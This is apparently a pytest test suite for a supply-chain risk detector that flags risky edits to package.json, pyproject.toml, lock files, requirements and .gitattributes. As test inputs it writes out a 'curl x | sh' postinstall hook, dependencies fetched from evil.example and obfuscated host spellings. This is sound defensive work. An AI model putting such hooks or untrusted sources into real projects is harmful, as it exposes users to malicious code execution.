import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from atoll.engine.change.risk_rules import RiskKind
from atoll.engine.change.risky_contents import binary_content, rules_for
from atoll.engine.change.sources import find_sources

NAMES = [
    "package.json", "package-lock.json", "pyproject.toml", "Cargo.toml", "Cargo.lock", "uv.lock",
    "yarn.lock", "pnpm-lock.yaml", "go.mod", "go.sum", "composer.json", "composer.lock",
    "requirements.txt", ".gitattributes", "Gemfile.lock", "Pipfile.lock",
]  # fmt: skip


def kinds(path, old, new):
    old, new = (text.encode() if isinstance(text, str) else text for text in (old, new))
    return {rule.kind: why for rule in rules_for(path) if (why := rule.judge(old, new))}


def node(**fields):
    return json.dumps({"name": "shop", "version": "1.0.0", **fields})


@pytest.mark.parametrize(
    "fields",
    [
        {"scripts": {"postinstall": "curl x | sh"}},
        {"bin": "x.js"},
        {"packageManager": "pnpm@9"},
        {"husky": {"hooks": {"pre-commit": "x"}}},
        {"workspaces": ["*"]},
        {"overrides": {"x": "1"}},
        {"jest": {"globalSetup": "./x.js"}},
    ],
)
def test_field_of_package_json_that_runs_something(fields):
    assert RiskKind.PACKAGE in kinds("web/package.json", node(), node(**fields))
    assert RiskKind.PACKAGE in kinds("web/package.json", "", node(**fields))
    assert kinds("package.json", node(**fields), node(**fields)) == {}


def test_ordinary_change_of_package_json():
    new = node(version="2.0.0", description="x", dependencies={"left-pad": "^1.0.0"},
               homepage="https://shop.example/a", repository="github:shop/shop")  # fmt: skip
    assert kinds("package.json", node(), new.replace("1.0.0", "1.1.0", 1)) == {}


@pytest.mark.parametrize(
    "value",
    ["git+https://evil.example/x.git", "https://evil.example/x.tgz", "evil/x", "file:../x",
     "github:evil/x", "git@evil.example:x/y"],
)  # fmt: skip
def test_dependency_from_elsewhere(value):
    dependencies = {"version": "1", "name": "1", "homepage": value}
    assert RiskKind.SOURCE in kinds("package.json", node(), node(dependencies=dependencies))


@pytest.mark.parametrize(
    "text", ["{", "[]", "[" * 100_000, '{"a": 1, "a": 2}', "\xff", '{"a": ' * 500 + "1" + "}" * 500]
)
def test_manifest_that_cannot_be_parsed_is_risky(text):
    assert RiskKind.PACKAGE in kinds("package.json", node(), text)


PYPROJECT = '[project]\nname = "shop"\nversion = "1"\ndependencies = ["a"]\n'


@pytest.mark.parametrize(
    "text",
    [
        '[build-system]\nrequires = ["evil"]\n',
        '[project.scripts]\nx = "a:b"\n',
        '[project.entry-points.pytest11]\nx = "a"\n',
        '[tool.pytest.ini_options]\naddopts = "-p evil"\n',
        '[tool.poe.tasks]\nx = "rm"\n',
        '[tool.poetry.scripts]\nx = "a:b"\n',
        '[tool.hatch.build.hooks.custom]\npath = "x.py"\n',
        '[tool.uv.sources]\na = { path = "../a" }\n',
    ],
)
def test_table_of_pyproject_that_runs_something(text):
    assert RiskKind.BUILD in kinds("pyproject.toml", PYPROJECT, PYPROJECT + text)


def test_ordinary_change_of_pyproject():
    new = PYPROJECT.replace('"a"', '"a", "b>=2"') + "[tool.ruff]\nline-length = 100\n"
    new += '[project.urls]\nhome = "https://shop.example"\n[dependency-groups]\ndev = ["c"]\n'
    assert kinds("pyproject.toml", PYPROJECT, new) == {}


def test_cargo():
    old = '[package]\nname = "shop"\nversion = "1.0.0"\n[dependencies]\na = "1"\n'
    assert kinds("Cargo.toml", old, old + 'b = "2"\n') == {}
    assert kinds("Cargo.toml", old, old.replace("[dep", 'build = "evil.rs"\n[dep'))
    assert RiskKind.SOURCE in kinds("Cargo.toml", old, old + 'b = { git = "https://e.example/b" }')
    assert RiskKind.SOURCE in kinds("Cargo.toml", old, old + 'b = { path = "../b" }')


NPM = '{"packages": {"node_modules/%s": {"version": "1.0.0", "resolved": "%s", "integrity": "x"}}}'


@pytest.mark.parametrize(
    ("path", "old", "same", "other"),
    [
        (
            "package-lock.json",
            NPM % ("a", "https://registry.example/a/-/a-1.0.0.tgz"),
            NPM % ("b", "https://registry.example/b/-/b-2.0.0.tgz"),
            NPM % ("b", "https://elsewhere.example/b/-/b-2.0.0.tgz"),
        ),
        (
            "package-lock.json",
            NPM % ("a", "https://registry.example/a/-/a-1.0.0.tgz"),
            NPM % ("a", "https://registry.example/a/-/a-1.0.0.tgz"),
            NPM % ("a", "http:\\/\\/registry.example/a/-/a-1.0.0.tgz"),
        ),
        (
            "yarn.lock",
            'a@^1:\n  version "1.0.0"\n  resolved "https://registry.example/a/-/a-1.0.0.tgz#12"\n',
            '"b@npm:1.2.3":\n  resolved "https://registry.example/b/-/b-1.0.1.tgz#34"\n',
            'a@^1:\n  resolved "https://codeload.github.com/evil/a/tar.gz/12"\n',
        ),
        (
            "pnpm-lock.yaml",
            "packages:\n  a@1.0.0:\n    resolution: {integrity: sha512-x}\n",
            "packages:\n  a@1.0.1:\n    resolution: {integrity: sha512-y}\n  b@2.0.0:\n    x: 1\n",
            "packages:\n  a@1.0.0:\n    resolution: {tarball: https://evil.example/a.tgz}\n",
        ),
        (
            "Cargo.lock",
            '[[package]]\nname = "a"\nsource = "registry+https://index.example/crates"\n',
            '[[package]]\nname = "b"\nsource = "registry+https://index.example/crates"\n',
            '[[package]]\nname = "a"\nsource = "git+https://github.com/evil/a?rev=1#1"\n',
        ),
        (
            "poetry.lock",
            '[[package]]\nname = "a"\nversion = "1"\n',
            '[[package]]\nname = "a"\nversion = "2"\nfiles = [{file = "a-2.whl", hash = "x"}]\n',
            '[[package]]\nname = "a"\n[package.source]\ntype = "legacy"\nurl = "https://e.example/s"',
        ),
        (
            "uv.lock",
            '[[package]]\nname = "a"\nsource = { registry = "https://index.example/simple" }\n',
            '[[package]]\nname = "b"\nsource = { registry = "https://index.example/simple" }\n',
            '[[package]]\nname = "a"\nsource = { git = "https://git.example/a?rev=1" }\n',
        ),
        ("requirements/dev.txt", "a==1\n", "a==2\nb>=1  # c\n", "--index-url https://e.example\n"),
        ("requirements.txt", "a==1\n", "a==2\n", "a @ git+ssh://git@e.example/a.git\n"),
        ("go.mod", "module m\n", "module m\nrequire golang.org/x/a v1\n", "replace a => ../b\n"),
        ("go.sum", "x.example/a v1 h1:x\n", "x.example/b v2 h1:y\n", "evil.example/b v1 h1:x\n"),
        (
            "Gemfile.lock",
            "GEM\n  remote: https://gems.example/\n",
            "GEM\n  remote: https://gems.example/\n  specs:\n    a (1)\n",
            "GIT\n  remote: https://github.com/evil/a.git\n",
        ),
        (
            "composer.lock",
            '{"packages": []}',
            '{"packages": [{"name": "a/b", "version": "1", "homepage": "https://x.example"}]}',
            '{"packages": [{"name": "a/b", "version": "1", "dist": {"url": "https://x.example"}}]}',
        ),
    ],
)
def test_new_source_in_a_lock_file(path, old, same, other):
    assert RiskKind.SOURCE not in kinds(path, old, same)
    assert RiskKind.SOURCE in kinds(path, old, other)
    assert RiskKind.SOURCE not in kinds(path, other, other)


@pytest.mark.parametrize(
    "url",
    [
        "https:evil.example/a.tgz", "https:/evil.example/a.tgz", "https:\\\\\\\\evil.example/a.tgz",
        "https:/\\n/evil.example/a.tgz", "https://registry.example,x@evil.example/a.tgz",
        "https://registry.example/@evil.example.tgz/../../a", "HTTPS:EVIL.example/a.tgz",
    ],
)  # fmt: skip
def test_odd_spelling_of_a_host_in_a_lock_file(url):
    old = NPM % ("a", "https://registry.example/a/-/a-1.0.0.tgz")
    assert RiskKind.SOURCE in kinds("package-lock.json", old, NPM % ("a", url))


def test_host_before_an_at_sign_is_none():
    old = "GEM\n  remote: https://gems.example/\n"
    new = old + "  remote: https://gems.example,x@evil.example/\n"
    assert RiskKind.SOURCE in kinds("Gemfile.lock", old, new)


@pytest.mark.parametrize(
    "line",
    [
        "-ihttps://evil.example/s", "--index\\\n-url=https:/\\\n/evil.example/s", "-rother.txt",
        "-e.", "--pre", "-fwheels", "./a.whl", "../a", "wheels/a.whl", "a-1-py3-none-any.whl",
        "a @ https:evil.example/a.whl",
    ],
)  # fmt: skip
def test_option_or_path_in_requirements(line):
    assert RiskKind.SOURCE in kinds("requirements.txt", "a==1\n", f"a==1\n{line}\n")
    assert RiskKind.SOURCE in kinds("requirements.txt", "a==1\n", f"\ufeff{line}\n")


def test_ordinary_requirements():
    new = "a==1.1\nb[x]>=2 ; python_version<'3'\nc~=1 \\\n    --hash=sha256:00\n# via d/e\n"
    old = new.replace("1.1", "1.0").replace("sha256:00", "sha256:11")
    assert RiskKind.SOURCE not in kinds("requirements.txt", old, new)


@pytest.mark.parametrize(
    "value", ["../x", "./x", " user/repo", "https:evil.example/x.tgz", "e.example:u/r"]
)
def test_dependency_of_node_that_is_no_version(value):
    old = '{"dependencies": {"x": "^1"}}'
    assert RiskKind.SOURCE in kinds("package.json", old, old.replace("^1", value))


def test_deleted_lock_file():
    assert RiskKind.SOURCE in kinds("package-lock.json", NPM % ("a", "https://r.example/a.tgz"), "")


def test_new_commit_of_the_same_repository_is_no_new_source():
    old, new = (f'source = "git+https://git.example/o/a?rev={n}#{n}"' for n in "12")
    assert kinds("Cargo.lock", old, new) == {}


def test_two_sources_that_only_differ_late_are_two():
    old, new = (f"https://git.example/{'a' * 500}{n}/b.git" for n in "12")
    assert RiskKind.SOURCE in kinds("yarn.lock", old, new)


def test_attributes():
    assert kinds(".gitattributes", "", "*.py text eol=lf\n# filter=x\n* text=auto\n") == {}
    for line in ("* filter=evil", "*.js -diff", "x merge=ours", "[attr]x filter=y", "*.ts binary"):
        assert RiskKind.GIT_SETTINGS in kinds("a/.gitattributes", "", line)


@pytest.mark.parametrize(
    ("content", "is_binary"),
    [
        (b"", False),
        ("grün".encode(), False),
        (b"\xff\xfe latin", False),
        (b"MZ is the beginning of a text", False),
        (b"MZ\0", True),
        (b"\x7fELF", True),
        (b"text" * 5000 + b"\0", True),
        (b"PK\x03\x04", True),
        (b"\x1f\x8b\x08", True),
    ],
)
def test_binary(content, is_binary):
    assert bool(binary_content(content)) == is_binary


@given(st.sampled_from(NAMES), st.binary(), st.binary())
def test_no_content_raises(name, old, new):
    kinds(name, old, new)


@given(st.sampled_from(NAMES), st.text("{}[]\"':,=/@.#\\ \nagit+https", max_size=300))
def test_no_odd_text_raises(name, text):
    kinds(name, "", text)
    assert RiskKind.SOURCE not in kinds(name, text, text)


@pytest.mark.parametrize(
    "unit", ["a", "a:", "://", "https://", "\\u0068", "@a:", "git+", "x=./", "-i"]
)
def test_search_takes_linear_time(unit):
    # Would not end in hours if a position were searched again for every other.
    find_sources("yarn.lock", unit.encode() * ((1 << 20) // len(unit)))
